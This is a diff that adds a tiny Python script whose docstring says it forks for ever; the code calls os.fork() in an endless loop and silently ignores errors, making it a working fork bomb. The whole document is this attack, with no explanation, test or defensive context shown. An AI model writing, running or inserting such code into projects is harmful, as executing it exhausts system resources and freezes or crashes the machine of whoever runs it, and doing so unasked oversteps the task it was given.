@@ -1,0 +1,8 @@
+"""Forks for ever, whatever it is told."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
